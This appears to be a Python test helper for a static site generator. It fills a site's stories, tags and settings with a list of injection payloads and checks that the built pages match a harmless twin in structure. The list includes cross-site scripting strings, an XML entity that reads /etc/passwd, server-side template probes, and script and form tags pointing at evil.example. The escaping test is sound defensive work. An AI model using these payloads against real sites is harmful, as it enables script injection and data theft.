"""A site whose authors are hostile, and its twin with a harmless word in the same places.

One build holds all payloads: story number n has the payload n in all of its original and another one in all of its
translation; its topic, its series, its people and its agency have both. What was built is compared with the twin by
structure: elements and attributes of HTML and XML, keys of JSON, lines of everything else.
"""

from __future__ import annotations

import functools
import json
import re
from collections.abc import Sequence
from xml.parsers import expat

from selectolax.lexbor import LexborHTMLParser

from lisanayn.build.guard import MARKER
from tests.build.builder import Builder

PAYLOADS: tuple[str, ...] = (
    # the ends of what an author's words stand in
    "</script><script>alert(1)</script>",
    "</SCRIPT ><svg/onload=alert(1)>",
    "</title></textarea></style><svg onload=alert(1)>",
    "</bdi></a></li></ul></main><h1>x</h1>",
    "</entry></feed><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</xmp></noscript></template></iframe><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
    "?><script>alert(1)</script><?php",
    "<!--",
    "<!--<script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    # the ends of attributes
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onclick=alert(1) `",
    "x onload=alert(1) style=behavior:url(x)",
    '\\" onerror=alert(1) //',
    "/onerror=alert(1)//",
    # elements that do something by themselves
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example')</script>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x>",
    "<form action=https://evil.example/><button>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<img src=//evil.example/pixel.png>",
    "<video><source onerror=alert(1)></video>",
    "<plaintext>",
    "<bdo dir=rtl>x</bdo><marquee onstart=alert(1)>",
    "<x-a onclick=alert(1) is=b><slot name=x></slot></x-a>",
    "<b <script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    # entities, and what is escaped twice or once too few
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &#60;b&#62; &#x3c;b&#x3e; &nbsp; &copy",
    "&#0; &#xD800; &#x110000; &unknown; & &; &&",
    "%3Cscript%3Ealert(1)%3C/script%3E %0d%0a",
    "\\u003cscript\\u003e \\x3cb\\x3e \\074",
    # texts inside scripts, JSON and search files
    "`${alert(1)}`",
    "');alert(1)//",
    '"});alert(1);({"a":"',
    "\\",
    "\\\\\" \\' \\n \\u2028",
    "\u2028\u2029alert(1)",
    "__proto__ constructor toString",
    "*/alert(1)/*",
    "//# sourceMappingURL=x",
    # templates of every kind
    "{{ 7*7 }}{% include 'base.html' %}{# x #}",
    "<% 7*7 %>${7*7}#{7*7}@{7*7}[[7*7]]{{{7*7}}}",
    "{{< figure >}} {%raw%} {{ config.items() }} {{''.__class__.__mro__}}",
    # lines and tables of text
    "=HYPERLINK(0) +1 -1 @x\t|\u00a0\u3000",
    "/* https://evil.example/* 200",
    "\u0085Sitemap: https://evil.example/",
)

HARMLESS = "harmless"
TWINS = tuple(f"{HARMLESS}{number}" for number in range(len(PAYLOADS)))
"""What stands in place of the payloads in the twin."""

MARKDOWN = re.compile(r"[*_`~|\\[\]\u2028\u2029\u0085]|:\S*//|^\s*[=+/-]+|@|^#")
"""In Markdown and wire text these are the author's own markup or line ends; there a payload is tried without them."""

CREDIT = re.compile(r'["()/&;,+=-]')

SETTINGS = """
title = {{ ar = {0}, en = {1}, fr = {0} }}
tagline = {{ ar = {1}, en = {0}, fr = {1} }}
languages = ["ar", "en", "fr"]
base_url = "https://two-shores.example/sub/"
home = "chooser"
missing = "stub"
calendar = "both"
per_page = 20
share_cards = false
fonts = "system"
offline = true
[sections.shown]
missing = "show"
[publisher]
name = {0}
url = "https://two-shores.example/us"
[pictures]
formats = []
"""

PLAIN = json.dumps("A site")

BODY = """
كان النص PAYLOAD هنا، وهذا [رابط PAYLOAD](https://x.example/) إليه.

## عنوان PAYLOAD

![وصف PAYLOAD](quay.svg){credit="CREDIT" license="CREDIT"}
تعليق PAYLOAD (CREDIT)

> اقتباس PAYLOAD
> — PAYLOAD

- بند PAYLOAD

| أ | PAYLOAD |
|---|---|
| PAYLOAD | 2 |

``` PAYLOAD
PAYLOAD
```

::: note
نص PAYLOAD كلام.
:::

نص[^1] آخر.

[^1]: حاشية PAYLOAD
"""

GROUPS = """[p1 s1]
s1 = 1
[p2 s2]
s2 = 1
[p3 s3]
s3 = 1
[p4 s4]
s4 = 1
[p5 s5]
s5 = 1
"""
"""Said by a person: what two texts about nothing hold in common differs from payload to payload."""

WIRE = """---
title: TEXT
date: 2026-03-02
tags: [TAG]
blocks: {10: figure}
images: {10: {file: quay.svg, alt: TEXT, license: TEXT}}
---
قال المتحدث PAYLOAD كلامًا طويلًا.

تعليق CREDIT كلام (رويترز)

قال آخر إن PAYLOAD انتهى.

المصدر: PAYLOAD
"""

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="3"/>'


def quoted(text: str) -> str:
    """A text as YAML and TOML read it back, in one line."""
    return json.dumps(text, ensure_ascii=True)


def in_markdown(payload: str) -> str:
    """A payload without what is markup of the author's own."""
    return MARKDOWN.sub("", payload).strip() or HARMLESS


def with_payload(text: str, payload: str) -> str:
    """A body with a payload in all its places; in credits without what separates or ends credits."""
    marked = in_markdown(payload)
    return text.replace("PAYLOAD", marked).replace("CREDIT", CREDIT.sub("", marked).strip() or HARMLESS)


def hostile_site(payloads: Sequence[str]) -> Builder:
    """The site: stories s00, s01 …, written by hand, and w00, w01 …, agencies' texts; two payloads a story."""
    site = Builder()
    for path in [entry.path for entry in site.site.files()]:
        site.site.remove(path)
    site.write("content/site.toml", SETTINGS.format(PLAIN, PLAIN))
    tables: dict[str, list[str]] = {"tag": [], "agency": [], "person": []}
    for number in range(len(payloads) // 2):
        one, other = payloads[number], payloads[-1 - number]
        for name, records in tables.items():
            pairs = (("a", one), ("b", other), ("c", one))
            own, second, third = [quoted(f"{word} {name} {number} {payload}") for word, payload in pairs]
            names = f"ar = {own}\nen = {second}\naliases = [{third}]\n"
            records.append(f'[[{name}]]\nid = "{name}{number}"\n{names}')
        write_stories(site, number, one, other)
    for path, name in (("tags", "tag"), ("agencies", "agency"), ("people", "person")):
        site.write(f"content/{path}.toml", "\n".join(tables[name]))
    return site


def write_stories(site: Builder, number: int, one: str, other: str) -> None:
    """Two stories with two payloads in all their places."""
    text, second = quoted(f"x {number} {one}"), quoted(f"y {number} {other}")
    tag, agency, person = (quoted(f"c {name} {number} {one}") for name in ("tag", "agency", "person"))
    original = (
        f"title: {text}\nsummary: {text}\nlicense: {text}\ncover_alt: {text}\ncover: quay.svg\n"
        f"author: [{text}, {second}, {person}]\nsources: [{text}, {second}, {agency}]\n"
        f"series: {quoted(f'series {number} {one}')}\npart: 1\ndate: 2026-02-{number % 27 + 1:02}\n"
        f"tags: [{tag}, {quoted(f'own {number} {one}')}]\naliases: [/old/{number}/, old{number}]\n"
        f"source_url: https://x.example/?a=%22%3E\ncorrections:\n  - date: 2026-03-02\n    text: {text}\n"
    )
    translation = (
        f"title: {second}\nsummary: {second}\ntranslator: [{text}, {second}, {person}]\ntranslation: reviewed\n"
        f"reviewer: [{second}]\nseries: {second}\n"
    )
    site.write(f"content/s{number:02}/ar.md", f"---\n{original}---\n{with_payload(BODY, one)}")
    site.write(f"content/s{number:02}/en.md", f"---\n{translation}---\n{with_payload(BODY, other)}")
    site.write(f"content/s{number:02}/en.align", GROUPS)
    site.write(f"content/s{number:02}/quay.svg", SVG)
    wire = with_payload(WIRE, other).replace("TEXT", second).replace("TAG", tag)
    site.write(f"content/shown/w{number:02}/ar.txt", wire)
    site.write(f"content/shown/w{number:02}/quay.svg", SVG)


@functools.cache
def hostile() -> dict[str, bytes]:
    """What is built of the hostile site: path → bytes."""
    return _built(hostile_site(PAYLOADS))


@functools.cache
def harmless() -> dict[str, bytes]:
    """What is built of its twin."""
    return _built(hostile_site(TWINS))


def _built(site: Builder) -> dict[str, bytes]:
    report = site.build()
    assert report.published, [problem for problem in report.problems if problem.severity.value == "error"]
    return dict(site.output.contents)


# Structure ---------------------------------------------------------------------------------------

Structure = list[object]


def structures(files: dict[str, bytes]) -> dict[str, list[tuple[str, Structure]]]:
    """(path, structure) of every file, by the kind of page it is: paths made from names differ between the twins."""
    found: dict[str, list[tuple[str, Structure]]] = {}
    for path, data in sorted(files.items()):
        found.setdefault(kind(path), []).append((path, structure(path, data)))
    return found


def kind(path: str) -> str:
    """A path with what was made from names, numbers and digests left out."""
    path = re.sub(r"(tags|people|series)/(own|x|y|series)-[^/]+/", r"\1/#/", path)
    path = re.sub(r"/(s|w|old|tag|person|agency)?\d+(?=[./])", r"/\1#", path)
    return re.sub(r"\.[0-9a-f]{8,}\.", ".#.", path)


def structure(path: str, data: bytes) -> Structure:
    """What of a file must not depend on the words in it."""
    if path.endswith(".html"):
        return html_structure(data)
    if path.endswith((".xml", ".svg", ".tmx")):
        return xml_structure(data)
    if path == MARKER:
        return sorted(map(kind, json.loads(data)["files"]))
    if path.endswith((".json", ".webmanifest")):
        return [json_structure(json.loads(data))]
    if path.endswith(".js"):
        return [data.count(b"\n"), *map(json_structure, calls(data))]
    return [data.count(b"\n")]


def html_structure(data: bytes) -> Structure:
    """Elements in order, each with the names of its attributes. <bdi> is left out: isolation follows the words."""
    tree = LexborHTMLParser(data.decode())
    found: Structure = []
    for node in tree.root.traverse(include_text=False):
        if node.tag != "bdi":
            found.append((node.tag, *sorted(node.attributes)))
    return found


def xml_structure(data: bytes) -> Structure:
    """Elements in order, each with the names of its attributes; raises ExpatError. No entity is declared."""
    found: Structure = []

    def start(name: str, attributes: dict[str, str]) -> None:
        found.append((name, *sorted(attributes)))

    def refuse(*_: object) -> None:
        raise AssertionError("an entity is declared")

    parser = expat.ParserCreate()
    parser.StartElementHandler, parser.EntityDeclHandler = start, refuse
    parser.Parse(data, True)
    return found


def json_structure(value: object) -> object:
    """Keys and kinds of values."""
    if isinstance(value, dict):
        return {key: json_structure(one) for key, one in value.items()}
    if isinstance(value, list):
        return [json_structure(one) for one in value]
    return type(value).__name__


def calls(script: bytes) -> list[object]:
    """The values that a file of search hands to its one function."""
    match = re.fullmatch(r'lisanaynSearch\("[a-z0-9/]+",(.*)\);\n', script.decode(), re.DOTALL)
    return [json.loads(match[1])] if match else []


# The site's own names ----------------------------------------------------------------------------


@functools.cache
def _named(names: tuple[str, ...]) -> dict[str, bytes]:
    title, tagline, publisher = map(quoted, names)
    site = Builder()
    site.write(
        "content/site.toml",
        f'title = {title}\ntagline = {tagline}\nbase_url = "https://two-shores.example/sub/"\nshare_cards = false\n'
        f"[publisher]\nname = {publisher}\n",
    )
    return _built(site)


def named_site(names: Sequence[str]) -> dict[str, bytes]:
    """What is built of a small site with the title, the tagline and the publisher in ``names``."""
    return _named(tuple(names))
